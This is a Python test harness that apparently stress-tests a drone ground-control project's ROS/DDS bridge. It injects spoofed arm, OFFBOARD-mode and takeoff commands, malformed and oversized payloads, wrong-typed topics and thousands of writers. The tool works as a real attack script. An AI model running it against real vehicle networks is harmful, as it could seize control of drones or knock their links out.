"""A participant of DDS that means harm: `python -m ros.hostile_node DOMAIN COMMANDS VEHICLE…`, attack after attack.

It knows all names and types. Where services are allowed it calls none rightly: who may call them may fly.
"""

from __future__ import annotations

import asyncio
import os
import random
import re
import sys
import time
from collections.abc import Iterator
from typing import Any

from cyclonedds.core import DDSException
from cyclonedds.pub import DataWriter

from ros.bridge_graph import Graph, graph_of
from skygcs.core.ros.interfaces import Interfaces, ros2_interfaces
from skygcs.ext.ros.config import RosConfig
from skygcs.ext.ros.dds import SERVICE_HEADER, DdsNode, Network, Publication, _qos, network_config

SETPOINTS_EACH = 40
WRONG_EACH = 12
MOST_WRITERS = 2000
OTHER_TOPICS = 500
HUGE_BYTES = 3 << 20

WRONG_TYPE = "std_msgs/msg/String"


class Attack:
    """All attacks, with a participant of its own."""

    def __init__(self, domain: int, graph: Graph, calls: bool) -> None:
        self.known: Interfaces = ros2_interfaces("1.16")
        self.network = Network(domain, True, ())
        config = re.sub("<Internal>.*</Internal>", "", network_config(self.network))  # no limit of what it sends
        os.environ["CYCLONEDDS_URI"] = config  # of both of its participants
        self.node = DdsNode(self.network, self.known, asyncio.get_running_loop())
        self.graph = graph
        self.calls = calls
        self.random = random.Random(1)
        self.writers: dict[str, tuple[Publication, str]] = {}

    async def run(self) -> None:
        for name, type_ in self.graph.inputs.items():
            self.writers[name] = Publication(self.node, f"rt{name}", type_, "default", b""), type_
        for name, type_ in self.graph.services.items():
            request = f"{type_}_Request"
            self.writers[name] = Publication(self.node, f"rq{name}Request", request, "service", b""), request
        await asyncio.sleep(3)  # until they are matched, where somebody reads
        for part in (self.setpoints, self.requests, self.malformed, self.huge, self.wrong_types, self.many):
            begun = time.monotonic()
            await part()
            print(f"{part.__name__} {time.monotonic() - begun:.1f} s", flush=True)
        await asyncio.sleep(2)

    async def setpoints(self) -> None:
        """Rightly encoded: places, speeds, attitudes and commands."""
        for n in range(SETPOINTS_EACH):
            for name in self.graph.inputs:
                writer, type_ = self.writers[name]
                writer.write_bytes(self.known.encode(type_, self._setpoint(type_, n)))
            await asyncio.sleep(0.02)

    def _setpoint(self, type_: str, n: int) -> dict[str, Any]:
        place = {"x": 50.0 + n, "y": 50.0, "z": 20.0}
        match type_.rpartition("/")[2]:
            case "PoseStamped":
                return {"pose": {"position": place, "orientation": {"w": 1.0}}}
            case "TwistStamped":
                return {"twist": {"linear": place}}
            case "Twist":
                return {"linear": place}
            case "PositionTarget":
                return {"coordinate_frame": 1, "type_mask": 0xDF8, "position": place}
            case "AttitudeTarget":
                return {"orientation": {"w": 1.0}, "thrust": 0.9}
            case "Thrust":
                return {"thrust": 1.0}
            case "TrajectorySetpoint":
                return {"position": [50.0, 50.0, -20.0], "velocity": [float("nan")] * 3}
            case "OffboardControlMode":
                return {"position": True}
            case "VehicleCommand":  # where services are allowed: one of another vehicle
                return {"command": 400, "param1": 1.0, "target_system": 200 if self.calls else n % 4}
        return {}

    async def requests(self) -> None:
        """Arm, set modes, take off, land, set parameters and missions."""
        if self.calls:
            return
        asked = {
            "arming": {"value": True},
            "set_mode": {"custom_mode": "OFFBOARD"},
            "takeoff": {"altitude": 10.0},
            "command": {"command": 400, "param1": 1.0},
            "send_goal": {"goal_id": {"uuid": [1] * 16}},
        }
        for sequence in range(1, 6):
            for name in self.graph.services:
                writer, type_ = self.writers[name]
                data = self.known.encode(type_, asked.get(name.rpartition("/")[2], {}))
                writer.write_bytes(data[:4] + SERVICE_HEADER.pack(7, sequence) + data[4:])
            await asyncio.sleep(0.05)

    async def malformed(self) -> None:
        """Bytes of no message: cut, random, of other encodings, lengths beyond the end."""
        for writer, type_ in self.writers.values():
            right = self.known.encode(type_, {})
            for data in self._wrong(right):
                writer.write_bytes(data)
            await asyncio.sleep(0.01)

    def _wrong(self, right: bytes) -> Iterator[bytes]:
        yield right[:4]
        yield right[:8]
        yield b"\0\0\0\0" + right[4:]  # big endian
        yield b"\0\3\0\0" + right[4:]  # a list of parameters
        yield right[:4] + b"\xff" * (len(right) + 64)  # lengths of 4 GiB
        for _ in range(WRONG_EACH - 5):
            yield right[:4] + self.random.randbytes(self.random.choice((1, 7, 24, 100, 4000)))

    async def huge(self) -> None:
        """A length that is true: megabytes of text in the frame of a header, or of waypoints."""
        made: dict[str, bytes] = {}
        for name, (writer, type_) in self.writers.items():
            if "setpoint" in name or name.endswith("mission/push"):
                if type_ not in made:
                    made[type_] = self._huge(type_)
                writer.write_bytes(made[type_])
                await asyncio.sleep(0.1)

    def _huge(self, type_: str) -> bytes:
        fields = self.known.fields_of(type_)
        if "waypoints" in fields:
            data = self.known.encode(type_, {"waypoints": [{}] * (HUGE_BYTES // 64)})
            return data[:4] + SERVICE_HEADER.pack(7, 1) + data[4:]
        if "header" in fields:
            return self.known.encode(type_, {"header": {"frame_id": "x" * HUGE_BYTES}})
        return self.known.encode(type_, {}) + bytes(HUGE_BYTES)

    async def wrong_types(self) -> None:
        """The names with types of others."""
        kept = []
        other = DdsNode(self.network, self.known, asyncio.get_running_loop())
        for name in self.graph.inputs:
            writer = Publication(other, f"rt{name}", WRONG_TYPE, "default", b"")
            writer.write({"data": "fly"})
            kept.append(writer)
        await asyncio.sleep(1)
        for writer in kept:
            writer.write({"data": "fly"})
        other.close()

    async def many(self) -> None:
        """Thousands of writers of the topics that are read, and hundreds of topics that nobody reads."""
        kept: list[DataWriter[Any]] = []
        names = list(self.graph.inputs.items())
        try:
            for n in range(MOST_WRITERS):
                name, type_ = names[n % len(names)]
                kept.append(
                    DataWriter(self.node.participant, self.node.topic(f"rt{name}", type_), qos=_qos("default", b""))
                )
                if n % 50 == 0:
                    await asyncio.sleep(0.01)
            for n in range(OTHER_TOPICS):
                topic = self.node.topic(f"rt/other/t{n}", WRONG_TYPE)
                kept.append(DataWriter(self.node.participant, topic, qos=_qos("latched", os.urandom(1000))))
                if n % 50 == 0:
                    await asyncio.sleep(0.01)
        except DDSException as error:
            print(f"no more than {len(kept)} writers: {error}", flush=True)
        print(f"{len(kept)} writers", flush=True)
        await asyncio.sleep(5)


async def main(words: list[str]) -> None:
    domain, commands, *vehicles = words
    everything = RosConfig(commands="all", px4_msgs="1.16")
    autopilots = {name: (n, "px4" if n < 3 else "ardupilot") for n, name in enumerate(vehicles, 1)}
    await Attack(int(domain), await graph_of(everything, autopilots), commands == "all").run()


if __name__ == "__main__":
    asyncio.run(main(sys.argv[1:]))
